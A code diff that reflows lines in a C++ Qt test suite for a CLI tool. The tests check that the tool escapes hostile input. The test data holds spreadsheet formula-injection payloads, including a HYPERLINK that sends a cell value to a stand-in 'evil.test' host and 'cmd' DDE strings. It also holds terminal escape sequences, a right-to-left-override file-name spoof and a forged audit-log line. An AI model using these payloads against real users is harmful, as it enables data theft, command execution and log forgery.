@@ -53,15 +53,16 @@ bool controlFree(const QByteArray& bytes)
         const uchar c = uchar(bytes.at(i));
         if ((c < 0x20 && c != '\n') || c == 0x7f)
             return false;
-        if (c == 0xc2 && i + 1 < bytes.size() && uchar(bytes.at(i + 1)) >= 0x80 && uchar(bytes.at(i + 1)) <= 0x9f)
+        if (c == 0xc2 && i + 1 < bytes.size() && uchar(bytes.at(i + 1)) >= 0x80
+            && uchar(bytes.at(i + 1)) <= 0x9f)
             return false; // a C1 control (U+0080..U+009F) in UTF-8
     }
     return true;
 }
 
-const QStringList formulas { QStringLiteral("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"), QStringLiteral("+1+cmd|' /C calc'!A0"),
-                             QStringLiteral("-2+3"), QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("\t=1+1"),
-                             QStringLiteral("\r=1+1") };
+const QStringList formulas { QStringLiteral("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"),
+    QStringLiteral("+1+cmd|' /C calc'!A0"), QStringLiteral("-2+3"),
+    QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1") };
 
 } // namespace
 
@@ -97,7 +98,8 @@ private slots:
     // entry and shows the newline as \n; `audit --json` gives the reason exactly.
     void aReasonWithANewlineStaysOnItsLine()
     {
-        const QString forged = QStringLiteral("fix\n99999  2026-01-01T00:00:00Z  admin@demo.local  cli  revert  1 PLAYER  all good");
+        const QString forged = QStringLiteral(
+            "fix\n99999  2026-01-01T00:00:00Z  admin@demo.local  cli  revert  1 PLAYER  all good");
         const CliRun write = setLevel(4, forged);
         QVERIFY2(write.exitCode == 0, qPrintable(describe(write)));
         const CliRun json = runOn(m_db, QStringLiteral("audit"), words({ "--json" }));
@@ -119,26 +121,35 @@ private slots:
     // right-to-left override) reaches the terminal as visible text; `user --json` keeps it exact.
     void escapeSequencesReachTheTerminalAsText()
     {
-        const QString name = QStringLiteral("Eve\x1b]0;owned\x07\x1b[2J") + QChar(0x9b) + QStringLiteral("31m") + QChar(0x202e) + QStringLiteral("gpj.exe");
+        const QString name = QStringLiteral("Eve\x1b]0;owned\x07\x1b[2J") + QChar(0x9b)
+            + QStringLiteral("31m") + QChar(0x202e) + QStringLiteral("gpj.exe");
         QVERIFY(m_db.exec(QStringLiteral("UPDATE users SET name = ? WHERE id = ?"), { name, m_student }));
         const CliRun text = runOn(m_db, QStringLiteral("user"), words({ "s@x.test" }));
         QVERIFY2(text.exitCode == 0, qPrintable(describe(text)));
         QVERIFY2(controlFree(text.out), text.out.toHex().constData());
         QVERIFY2(!text.out.contains("\xe2\x80\xae"), text.out.constData()); // U+202E
-        QVERIFY2(text.out.contains("Eve\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202egpj.exe"), text.out.constData());
+        QVERIFY2(
+            text.out.contains("Eve\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202egpj.exe"), text.out.constData());
         const CliRun json = runOn(m_db, QStringLiteral("user"), words({ "s@x.test", "--json" }));
         QVERIFY2(json.exitCode == 0, qPrintable(describe(json)));
-        QCOMPARE(jsonObject(json).value(QStringLiteral("user")).toObject().value(QStringLiteral("name")).toString(), name);
+        QCOMPARE(jsonObject(json)
+                     .value(QStringLiteral("user"))
+                     .toObject()
+                     .value(QStringLiteral("name"))
+                     .toString(),
+            name);
         // A refusal that repeats a hostile value escapes it too, on one line.
         const CliRun refused = runOn(m_db, QStringLiteral("advance"),
-                                     QStringList { QStringLiteral("--user"), QStringLiteral("gh\x1b[2Jost\nforged: done"), QStringLiteral("--spec"),
-                                                   QStringLiteral("PLAYER"), QStringLiteral("--to"), QStringLiteral("4") });
+            QStringList { QStringLiteral("--user"), QStringLiteral("gh\x1b[2Jost\nforged: done"),
+                QStringLiteral("--spec"), QStringLiteral("PLAYER"), QStringLiteral("--to"),
+                QStringLiteral("4") });
         QCOMPARE(refused.exitCode, 4);
         QVERIFY2(controlFree(refused.err) && refused.err.count('\n') == 1, refused.err.constData());
         QVERIFY2(refused.err.contains("gh\\x1b[2Jost\\nforged: done"), refused.err.constData());
     }
 
-    // An offending argument of 130 KB (the kernel caps one argument at 128 KiB) with newlines is quoted as a bounded, escaped prefix.
+    // An offending argument of 130 KB (the kernel caps one argument at 128 KiB) with newlines is quoted as a
+    // bounded, escaped prefix.
     void errorsQuoteABoundedPrefix()
     {
         const QString huge = QStringLiteral("x\n").repeated(65000) + QStringLiteral("y");
@@ -146,8 +157,9 @@ private slots:
         QCOMPARE(run.exitCode, 64);
         QVERIFY2(run.err.size() < 1024 && run.err.count('\n') == 1, run.err.left(300).constData());
         QVERIFY2(run.err.contains("(130001 characters)"), run.err.left(300).constData());
-        run = runOn(m_db, QStringLiteral("update-progress"), QStringList { QStringLiteral("--user"), QStringLiteral("s@x.test"), QStringLiteral("--spec"),
-                                                                           QStringLiteral("PLAYER"), QStringLiteral("--xp"), huge });
+        run = runOn(m_db, QStringLiteral("update-progress"),
+            QStringList { QStringLiteral("--user"), QStringLiteral("s@x.test"), QStringLiteral("--spec"),
+                QStringLiteral("PLAYER"), QStringLiteral("--xp"), huge });
         QCOMPARE(run.exitCode, 64);
         QVERIFY2(run.err.size() < 1024 && run.err.count('\n') == 1, run.err.left(300).constData());
     }
@@ -173,7 +185,8 @@ private slots:
         QStringList reasons;
         for (const QStringList& row : rows.mid(1)) {
             for (const QString& field : row)
-                QVERIFY2(field.isEmpty() || !QStringView(u"=+@\t\r").contains(field.front()) , qPrintable(field));
+                QVERIFY2(
+                    field.isEmpty() || !QStringView(u"=+@\t\r").contains(field.front()), qPrintable(field));
             reasons << row.at(reasonColumn);
         }
         for (const QString& reason : formulas)
@@ -202,7 +215,8 @@ private slots:
         const CliRun general = runCli(words({ "--help" }));
         QVERIFY2(general.out.contains("OWASP"), general.out.constData());
         for (const char* command : { "audit", "violations", "runs" }) {
-            const CliRun help = runCli(QStringList { QString::fromLatin1(command), QStringLiteral("--help") });
+            const CliRun help
+                = runCli(QStringList { QString::fromLatin1(command), QStringLiteral("--help") });
             QVERIFY2(help.out.contains("formula") && help.out.contains("OWASP"), help.out.constData());
         }
     }
